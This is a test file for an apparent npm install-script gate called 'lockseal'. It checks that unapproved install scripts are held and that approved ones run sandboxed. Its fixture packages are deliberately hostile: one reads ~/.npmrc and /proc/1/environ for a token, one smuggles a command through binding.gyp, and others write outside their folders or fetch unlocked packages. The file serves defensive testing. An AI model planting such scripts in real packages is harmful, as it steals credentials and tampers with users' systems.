// `lockseal install` with npm, in a project with install scripts of every kind: those that nobody approved never run, and
// those that somebody did are held in. Not part of `npm test`: run `npm run test:managers`.
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { once } from 'node:events';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import process from 'node:process';
import { text } from 'node:stream/consumers';
import { after, before, describe, test, type TestContext } from 'node:test';
import { createRegistry, createSigstore, type PublishOptions, type RegistryServer } from '@lockseal/testkit';
import { lockseal } from '../support/transcript.ts';

const SECRET = 'npm_0123456789abcdef';
const digestOf = (scripts: object): string => createHash('sha256').update(JSON.stringify(scripts)).digest('hex');

/** Prints what it can read of what it must not, and writes where it must not. */
const NOSY = `
const fs = require('node:fs');
const [home, root] = process.argv.slice(2);
for (const file of [home + '/.npmrc', root + '/.npmrc', '/proc/1/environ']) {
  try { console.log(fs.readFileSync(file, 'utf8').includes('${SECRET}')); } catch (error) { console.log(error.code); }
}
for (const file of ['../good/index.js', '../../package.json', '../new.js']) {
  try { fs.writeFileSync(file, 'evil'); console.log('wrote', file); } catch (error) { console.log(error.code); }
}
fs.writeFileSync('made', 'x');
`;

/** A registry that the project names, and that nobody reaches: the gate answers for it. */
const OTHER = 'registry.example';
const WHERE = `--registry=https://${OTHER}/ --fetch-retries=0`;
const GREEDY = {
  install: `npm install --no-save --no-audit ${WHERE} unlocked; npx --yes ${WHERE} unlocked; echo went on`,
};

interface World {
  readonly server: RegistryServer;
  readonly folder: string;
  readonly integrities: ReadonlyMap<string, string>;
  /** Integrity of a package whose approved script asks for one that nobody locked. */
  readonly greedy: string;
}

let world: World;
before(async () => {
  const folder = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'lockseal-install-')));
  const sigstore = await createSigstore();
  const registry = createRegistry({ sigstore });
  const touch = `touch ${path.join(folder, 'evil')}`;
  const publish = (options: Omit<PublishOptions, 'version'>) => registry.publish({ version: '1.0.0', ...options });
  const published = [
    publish({ name: 'good' }),
    publish({ name: 'worm', scripts: { preinstall: touch } }),
    publish({ name: 'phantom', files: { 'binding.gyp': `{'variables': {'x': '<!(${touch})'}, 'targets': []}` } }),
    publish({ name: 'nosy', scripts: nosyScripts(folder), files: { 'run.js': NOSY } }),
  ];
  fs.writeFileSync(path.join(folder, 'root.json'), JSON.stringify(sigstore.trustedRoot));
  const integrities = new Map(published.map(({ name, integrity }) => [name, integrity]));
  const server = await registry.serve();
  const greedy = publish({ name: 'greedy', scripts: GREEDY }).integrity;
  world = { server, folder, integrities, greedy };
});
after(async () => {
  await world.server.close();
  fs.rmSync(world.folder, { recursive: true });
});

function nosyScripts(folder: string): Readonly<Record<string, string>> {
  return { install: `node run.js ${path.join(folder, 'home')} ${path.join(folder, 'project')}` };
}

/** npm and a sandbox must be there; under LOCKSEAL_CI their absence is a failure. */
function has(t: TestContext, ...programs: readonly string[]): boolean {
  const missing = programs.filter((program) => spawnSync(program, ['--version'], { stdio: 'ignore' }).status !== 0);
  if (missing.length === 0) return true;
  assert.equal(process.env['LOCKSEAL_CI'], undefined, `LOCKSEAL_CI is set, and there is no ${missing.join(', ')}`);
  t.skip(`needs ${missing.join(', ')}`);
  return false;
}

interface Installed {
  readonly exitCode: number | null;
  readonly stdout: string;
  readonly stderr: string;
  readonly project: string;
}

async function install(...args: readonly string[]): Promise<Installed> {
  return installAll(world.integrities, [], ...args);
}

/** @param allow further elements of the list of approved scripts */
async function installAll(
  integrities: ReadonlyMap<string, string>,
  allow: readonly string[],
  ...args: readonly string[]
): Promise<Installed> {
  const { folder, server } = world;
  const [project, home] = [path.join(folder, 'project'), path.join(folder, 'home')];
  for (const each of [project, home]) fs.rmSync(each, { recursive: true, force: true });
  for (const each of [project, home]) fs.mkdirSync(each);
  fs.rmSync(path.join(folder, 'evil'), { force: true });
  const dependencies = Object.fromEntries([...integrities.keys()].map((name) => [name, '1.0.0']));
  const locked = [...integrities].map(([name, integrity]) => [
    `node_modules/${name}`,
    { version: '1.0.0', resolved: `${server.url}${name}/-/${name}-1.0.0.tgz`, integrity },
  ]);
  const packages = { '': { name: 'shop', version: '1.0.0', dependencies }, ...Object.fromEntries(locked) };
  const allowed = [`{package: nosy, sha256: ${digestOf(nosyScripts(folder))}}`, ...allow].join(', ');
  const files = {
    'package.json': JSON.stringify({ name: 'shop', version: '1.0.0', dependencies }),
    'package-lock.json': JSON.stringify({ name: 'shop', version: '1.0.0', lockfileVersion: 3, packages }, null, 2),
    '.npmrc': `registry=${server.url}\n@other:registry=https://${OTHER}/\n//other.example.com/:_authToken=${SECRET}\n`,
    'lockseal.yaml': `version: 1\nrules: {install-scripts: {level: note, allow: [${allowed}]}}\n`,
  };
  for (const [name, content] of Object.entries(files)) fs.writeFileSync(path.join(project, name), content);
  fs.writeFileSync(path.join(home, '.npmrc'), `//other.example.com/:_authToken=${SECRET}\n`);
  const all = ['install', '--verified-only', '--no-cache', `--trusted-root=${folder}/root.json`, ...args];
  const env = { PATH: process.env['PATH'], HOME: home, NPM_TOKEN: SECRET };
  const [program = '', ...words] = [...lockseal, ...all];
  const child = spawn(program, words, { cwd: project, env });
  child.stdin.end();
  const [stdout, stderr, [exitCode]] = await Promise.all([
    text(child.stdout),
    text(child.stderr),
    once(child, 'close') as Promise<[number | null]>,
  ]);
  return { exitCode, stdout, stderr, project };
}

describe('install scripts, after an install through the gate', () => {
  test('what nobody approved is held, and told; what is approved runs, and sees nothing', async (t) => {
    if (!has(t, 'npm', 'bwrap')) return;
    const { exitCode, stderr, stdout, project } = await install('--sandbox=require');
    assert.equal(exitCode, 0, stderr + stdout);
    assert.ok(!fs.existsSync(path.join(world.folder, 'evil')));
    for (const each of ['worm@1.0.0', 'phantom@1.0.0']) assert.ok(`${stdout}${stderr}`.includes(each), each);
    const said = stderr.split('\n').flatMap((line) => /^\[nosy@1\.0\.0 install\] (.*)/.exec(line)?.[1] ?? []);
    assert.deepEqual(said, ['ENOENT', 'ENOENT', 'false', 'EROFS', 'EROFS', 'EROFS']);
    assert.ok(fs.existsSync(path.join(project, 'node_modules/nosy/made')));
    assert.ok(!`${stdout}${stderr}`.includes(SECRET));
  });

  for (const isGranted of [false, true]) {
    test(`what nobody locked is got by no approved script, ${isGranted ? 'though it may ask the registry' : 'which reaches nothing'}`, async (t) => {
      if (!has(t, 'npm', 'bwrap')) return;
      const network = isGranted ? `, network: [${OTHER}]` : '';
      const allow = `{package: greedy, sha256: ${digestOf(GREEDY)}${network}}`;
      const only = new Map([['greedy', world.greedy]]);
      const { exitCode, stdout, stderr, project } = await installAll(only, [allow], '--sandbox=require', '--json');
      assert.match(stderr, /^\[greedy@1\.0\.0 install\] went on$/m);
      const { findings } = JSON.parse(stdout) as { findings: readonly Record<'code' | 'level' | 'subject', string>[] };
      const told = findings.map(({ code, level, subject }) => `${code} ${level} ${subject}`);
      assert.deepEqual(told, isGranted ? ['gate-refused error unlocked'] : [], stdout + stderr);
      assert.equal(exitCode, isGranted ? 1 : 0);
      const installed = fs.readdirSync(path.join(project, 'node_modules'), { recursive: true, encoding: 'utf8' });
      assert.ok(!installed.some((file) => file.includes('unlocked')));
    });
  }

  test('without a sandbox it does harm, which is found', async (t) => {
    if (!has(t, 'npm')) return;
    const { exitCode, stderr, stdout } = await install('--sandbox=off', '--json');
    assert.equal(exitCode, 1, stderr + stdout);
    assert.match(stderr, /WITHOUT a sandbox/);
    const { findings } = JSON.parse(stdout) as { findings: readonly { readonly code: string }[] };
    const codes = new Set(findings.map(({ code }) => code));
    assert.deepEqual([...codes].toSorted(), ['installed-changed', 'installed-extra', 'script-held']);
  });
});
